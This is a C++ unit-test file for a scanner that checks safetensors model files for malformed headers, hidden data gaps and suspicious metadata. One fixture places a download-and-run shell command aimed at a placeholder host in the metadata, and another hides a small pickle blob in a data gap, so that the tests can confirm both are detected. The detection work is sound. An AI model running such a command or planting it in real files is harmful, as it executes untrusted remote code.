#include "formats/safetensors/safetensors.h"

#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "formats/routing/content_type.h"
#include "modelgate/policy.h"
#include "scan/analyzers.h"

namespace modelgate {
namespace {

// Builds a safetensors file: header text padded with spaces to a multiple of
// 8 (as the reference writer does), then `data`.
std::vector<std::uint8_t> Build(std::string header, const std::string& data, bool pad = true) {
  if (pad) {
    while ((header.size() + 8) % 8 != 0) header += ' ';
  }
  std::string all;
  std::uint64_t n = header.size();
  for (int i = 0; i < 8; ++i) all.push_back(static_cast<char>(n >> (8 * i)));
  all += header;
  all += data;
  return std::vector<std::uint8_t>(all.begin(), all.end());
}

SafetensorsFile Read(const std::vector<std::uint8_t>& bytes, const Limits& limits = Limits()) {
  Result<SafetensorsFile> r = ReadSafetensors(ByteView(bytes), limits);
  EXPECT_TRUE(r.ok());
  return r.ok() ? r.value() : SafetensorsFile();
}

const char* kTwoTensors =
    R"({"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},)"
    R"("b":{"dtype":"I16","shape":[1,2],"data_offsets":[8,12]}})";

TEST(Safetensors, ReadsAWellFormedFile) {
  auto bytes = Build(kTwoTensors, std::string(12, 'x'));
  SafetensorsFile f = Read(bytes);
  EXPECT_TRUE(f.header_parsed);
  EXPECT_TRUE(f.anomalies.empty()) << f.anomalies[0].detail;
  EXPECT_TRUE(f.CrateAccepts());
  ASSERT_EQ(f.tensors.size(), 2u);
  EXPECT_EQ(f.tensors[1].name, "b");
  EXPECT_EQ(f.tensors[1].dtype, "I16");
  EXPECT_EQ(f.tensors[1].dtype_bits, 16u);
  EXPECT_EQ(f.tensors[1].shape, (std::vector<std::uint64_t>{1, 2}));
  EXPECT_EQ(f.tensors[1].begin, 8u);
  EXPECT_EQ(f.tensors[1].end, 12u);
  EXPECT_EQ(f.tensors[1].element_count, 2u);
  EXPECT_TRUE(f.tensors[1].valid);
  ASSERT_EQ(f.metadata.size(), 1u);
  EXPECT_EQ(f.metadata[0].key, "format");
  EXPECT_EQ(f.metadata[0].value, "pt");
  ByteView b = TensorBytes(f, f.tensors[1], ByteView(bytes));
  EXPECT_EQ(b.size(), 4u);
  EXPECT_EQ(b.data(), bytes.data() + f.data_offset + 8);
}

TEST(Safetensors, EmptyAndZeroDimTensorsAreValid) {
  auto bytes = Build(R"({"e":{"dtype":"F32","shape":[0,3],"data_offsets":[0,0]},)"
                     R"("s":{"dtype":"I64","shape":[],"data_offsets":[0,8]},)"
                     R"("f4":{"dtype":"F4","shape":[4],"data_offsets":[8,10]}})",
                     std::string(10, '\0'));
  SafetensorsFile f = Read(bytes);
  EXPECT_TRUE(f.anomalies.empty()) << f.anomalies[0].detail;
  EXPECT_EQ(f.tensors[1].element_count, 1u);
}

TEST(Safetensors, HeaderLengthProblems) {
  auto bytes = Build("{}", "");
  bytes[0] = 0xff;
  EXPECT_TRUE(Read(bytes).Has(SafetensorsAnomalyKind::kHeaderTruncated));
  bytes[7] = 0x80;  // 2^63 + ...
  SafetensorsFile f = Read(bytes);
  EXPECT_TRUE(f.Has(SafetensorsAnomalyKind::kHeaderOverCrateLimit));
  EXPECT_FALSE(f.header_parsed);
  std::vector<std::uint8_t> tiny = {1, 2, 3};
  EXPECT_FALSE(ReadSafetensors(ByteView(tiny), Limits()).ok());
  Limits small;
  small.max_safetensors_header_bytes = 4;
  EXPECT_TRUE(Read(Build(kTwoTensors, std::string(12, 'x')), small).Has(SafetensorsAnomalyKind::kHeaderTooLarge));
}

TEST(Safetensors, NonStrictJsonIsRefused) {
  for (const char* h : {R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},})",
                        R"({"a":{"dtype":"F32","shape":[NaN],"data_offsets":[0,4]}})",
                        R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}} x)",
                        R"({/*c*/"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}})"}) {
    SafetensorsFile f = Read(Build(h, "abcd"));
    EXPECT_TRUE(f.Has(SafetensorsAnomalyKind::kHeaderJson)) << h;
    EXPECT_FALSE(f.header_parsed) << h;
  }
  // Fuzzer reproducer: a complete tensor entry before a JSON error must not
  // be reported valid (its sizes were never checked).
  std::string nul_inside = R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dat)" + std::string(1, '\0') +
                           R"(a_offsets":[5,6]}})";
  SafetensorsFile partial = Read(Build(nul_inside, "abcdefgh"));
  EXPECT_FALSE(partial.header_parsed);
  ASSERT_EQ(partial.tensors.size(), 1u);
  EXPECT_FALSE(partial.tensors[0].valid);
  std::string bad_utf8 = "{\"a\xff\":{}}";
  EXPECT_TRUE(Read(Build(bad_utf8, "abcd")).Has(SafetensorsAnomalyKind::kHeaderNotUtf8));
  EXPECT_TRUE(Read(Build(R"(  {})", "")).Has(SafetensorsAnomalyKind::kHeaderStart));
  EXPECT_TRUE(Read(Build(R"([1,2])", "")).Has(SafetensorsAnomalyKind::kHeaderStructure));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kHeaderStructure));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F32","shape":[1]}})", "abcd")).Has(SafetensorsAnomalyKind::kHeaderStructure));
}

TEST(Safetensors, DuplicateKeysAtEveryLevel) {
  SafetensorsFile f = Read(Build(R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},)"
                                 R"("a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}})",
                                 "abcdefgh"));
  EXPECT_TRUE(f.Has(SafetensorsAnomalyKind::kDuplicateKey));
  SafetensorsFile g = Read(Build(R"({"a":{"dtype":"F32","dtype":"I32","shape":[1],"data_offsets":[0,4]}})", "abcd"));
  EXPECT_TRUE(g.Has(SafetensorsAnomalyKind::kDuplicateKey));
  EXPECT_FALSE(g.CrateAccepts());  // serde derive: duplicate field
  SafetensorsFile h = Read(Build(R"({"__metadata__":{"k":"1","k":"2"}})", ""));
  EXPECT_TRUE(h.Has(SafetensorsAnomalyKind::kDuplicateKey));
}

TEST(Safetensors, DtypeShapeAndOffsetChecks) {
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F128","shape":[1],"data_offsets":[0,4]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kUnknownDtype));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,4]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kSizeMismatch));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F32","shape":[4294967296,4294967296],"data_offsets":[0,4]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kShapeOverflow));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[4,0]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kBadOffsets));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kOffsetOutOfBounds));
  EXPECT_TRUE(Read(Build(R"({"a":{"dtype":"F4","shape":[3],"data_offsets":[0,1]}})", "abcd"))
                  .Has(SafetensorsAnomalyKind::kSizeMismatch));
  SafetensorsFile f = Read(Build(R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4],"x":[1]}})", "abcd"));
  EXPECT_TRUE(f.Has(SafetensorsAnomalyKind::kUnknownField));
  EXPECT_TRUE(f.CrateAccepts());
}

TEST(Safetensors, OverlapGapAndTrailingBytes) {
  SafetensorsFile o = Read(Build(R"({"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},)"
                                 R"("b":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}})",
                                 "abcdefgh"));
  EXPECT_TRUE(o.Has(SafetensorsAnomalyKind::kOverlap));
  EXPECT_FALSE(o.CrateAccepts());
  SafetensorsFile g = Read(Build(R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},)"
                                 R"("b":{"dtype":"F32","shape":[1],"data_offsets":[10,14]}})",
                                 "abcdGGGGGGefghTT"));
  ASSERT_EQ(g.unowned.size(), 2u);
  EXPECT_FALSE(g.unowned[0].trailing);
  EXPECT_EQ(g.unowned[0].offset, g.data_offset + 4);
  EXPECT_EQ(g.unowned[0].length, 6u);
  EXPECT_TRUE(g.unowned[1].trailing);
  EXPECT_EQ(g.unowned[1].length, 2u);
  EXPECT_TRUE(g.Has(SafetensorsAnomalyKind::kGap));
  EXPECT_TRUE(g.Has(SafetensorsAnomalyKind::kTrailingData));
  Limits one;
  one.max_safetensors_unowned_regions = 1;
  SafetensorsFile capped = Read(Build(R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]},)"
                                      R"("b":{"dtype":"U8","shape":[1],"data_offsets":[4,5]}})",
                                      "xaxxb"),
                                one);
  EXPECT_EQ(capped.unowned.size(), 1u);
  EXPECT_EQ(capped.unrecorded_gaps, 1u);
  EXPECT_EQ(capped.unrecorded_gap_bytes, 2u);
  // No tensors at all: the whole buffer is trailing data.
  SafetensorsFile e = Read(Build("{}", "zz"));
  ASSERT_EQ(e.unowned.size(), 1u);
  EXPECT_EQ(e.unowned[0].length, 2u);
}

TEST(Safetensors, MetadataThatIsNotAStringMap) {
  SafetensorsFile f = Read(Build(R"({"__metadata__":{"n":5,"o":{"x":[1,{"y":null}],"z":"w"},"s":"ok"}})", ""));
  ASSERT_EQ(f.metadata.size(), 3u);
  EXPECT_FALSE(f.metadata[0].is_string);
  EXPECT_EQ(f.metadata[0].value, "5");
  EXPECT_EQ(f.metadata[1].value, R"({"x":[1,{"y":null}],"z":"w"})");
  EXPECT_TRUE(f.metadata[2].is_string);
  EXPECT_TRUE(f.Has(SafetensorsAnomalyKind::kMetadataNotString));
  EXPECT_TRUE(Read(Build(R"({"__metadata__":[1]})", "")).Has(SafetensorsAnomalyKind::kMetadataNotObject));
  SafetensorsFile n = Read(Build(R"({"__metadata__":null})", ""));
  EXPECT_TRUE(n.anomalies.empty());
  EXPECT_TRUE(n.has_metadata);
}

TEST(Safetensors, NestingIsBoundedWithoutRecursion) {
  auto nested = [](int depth) {
    return R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":)" + std::string(depth, '[') +
           std::string(depth, ']') + "}}";
  };
  SafetensorsFile ok = Read(Build(nested(100), "z"));
  EXPECT_FALSE(ok.Has(SafetensorsAnomalyKind::kHeaderTooDeep));
  EXPECT_TRUE(ok.header_parsed);
  SafetensorsFile deep = Read(Build(nested(100000), "z"));
  EXPECT_TRUE(deep.Has(SafetensorsAnomalyKind::kHeaderTooDeep));
  EXPECT_FALSE(deep.header_parsed);
}

TEST(Safetensors, TensorCountIsBounded) {
  std::string h = "{";
  for (int i = 0; i < 20; ++i) {
    h += (i ? "," : "") + std::string("\"t") + std::to_string(i) + R"(":{"dtype":"U8","shape":[0],"data_offsets":[0,0]})";
  }
  h += "}";
  Limits l;
  l.max_safetensors_tensors = 5;
  SafetensorsFile f = Read(Build(h, ""), l);
  EXPECT_EQ(f.tensors.size(), 5u);
  EXPECT_TRUE(f.Has(SafetensorsAnomalyKind::kTooManyTensors));
}

std::vector<Finding> Analyze(const std::vector<std::uint8_t>& bytes, std::vector<Blob>* children = nullptr) {
  Limits limits;
  ScanContext ctx("t.safetensors", limits, Policy::Builtin());
  Blob blob;
  blob.bytes = ByteView(bytes);
  AnalyzeSafetensors(blob, ctx);
  while (ctx.HasPending()) {
    Blob c = ctx.PopPending();
    if (children) children->push_back(c);
  }
  return ctx.TakeFindings();
}

const Finding* FindId(const std::vector<Finding>& fs, const std::string& id) {
  for (const Finding& f : fs) {
    if (f.id == id) return &f;
  }
  return nullptr;
}

TEST(SafetensorsAnalyzer, PickleInAGapIsHighAndQueued) {
  std::string pickle = "\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01x\x94.";
  std::string data = "abcd" + pickle + "efgh";
  std::string h = R"({"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[)" +
                  std::to_string(4 + pickle.size()) + "," + std::to_string(8 + pickle.size()) + "]}}";
  std::vector<Blob> children;
  auto bytes = Build(h, data);  // children are views into it
  auto fs = Analyze(bytes, &children);
  const Finding* gap = FindId(fs, "SAFETENSORS-DATA-GAP");
  ASSERT_NE(gap, nullptr);
  EXPECT_EQ(gap->severity, Severity::kHigh);
  ASSERT_EQ(children.size(), 1u);
  EXPECT_EQ(children[0].bytes.size(), pickle.size());
  EXPECT_EQ(children[0].bytes[0], 0x80);
  // Plain junk after the last tensor: medium.
  auto junk = Analyze(Build(R"({"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}})", "a\x01\x02\x03"));
  const Finding* t = FindId(junk, "SAFETENSORS-TRAILING-DATA");
  ASSERT_NE(t, nullptr);
  EXPECT_EQ(t->severity, Severity::kMedium);
}

TEST(SafetensorsAnalyzer, MetadataCodeAndUrls) {
  auto fs = Analyze(Build(R"({"__metadata__":{"format":"pt","note":"run: curl http://x.example/a | sh"}})", ""));
  const Finding* code = FindId(fs, "SAFETENSORS-METADATA-CODE");
  ASSERT_NE(code, nullptr);
  EXPECT_EQ(code->severity, Severity::kMedium);
  EXPECT_NE(FindId(fs, "SAFETENSORS-METADATA-URL"), nullptr);
  auto clean = Analyze(Build(kTwoTensors, std::string(12, 'x')));
  EXPECT_TRUE(clean.empty()) << clean[0].id;
  auto dup = Analyze(Build(R"({"__metadata__":{"k":"1","k":"2"}})", ""));
  ASSERT_NE(FindId(dup, "SAFETENSORS-DUPLICATE-KEY"), nullptr);
  EXPECT_EQ(FindId(dup, "SAFETENSORS-DUPLICATE-KEY")->severity, Severity::kHigh);
}

TEST(SafetensorsRouting, DetectsRealHeadersAndNotLookalikes) {
  auto padded = Build(kTwoTensors, std::string(12, 'x'));
  EXPECT_EQ(DetectContentType(ByteView(padded)), ContentType::kSafetensors);
  EXPECT_EQ(DetectContentType(ByteView(padded), Probe::kMember), ContentType::kSafetensors);
  auto empty = Build("{}", "");
  EXPECT_EQ(DetectContentType(ByteView(empty)), ContentType::kSafetensors);
  // Truncated or length-bombed headers still route here so they are reported.
  auto bomb = Build(kTwoTensors, "");
  bomb[7] = 0x80;
  EXPECT_EQ(DetectContentType(ByteView(bomb), Probe::kMember), ContentType::kSafetensors);
  // But an implausible length before a '{' that does not start JSON does not.
  std::vector<std::uint8_t> lookalike = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, '{', 0x01, 0x02, 0x03};
  EXPECT_NE(DetectContentType(ByteView(lookalike), Probe::kMember), ContentType::kSafetensors);
  // Header lengths whose low byte is a pickle opcode (0x80 PROTO ...) stay safetensors.
  for (std::size_t pad : {0x80u, 0x90u, 0x8cu, 0x63u}) {
    std::string h = R"({"__metadata__":{"k":")" + std::string(pad - 25, 'v') + "\"}}";
    auto b = Build(h, "", false);
    ASSERT_EQ(b[0], pad);
    EXPECT_EQ(DetectContentType(ByteView(b)), ContentType::kSafetensors) << pad;
  }
  std::string json_text = R"({"a": 1, "b": [1, 2, 3]})";
  EXPECT_NE(DetectContentType(AsBytes(json_text)), ContentType::kSafetensors);
}

}  // namespace
}  // namespace modelgate
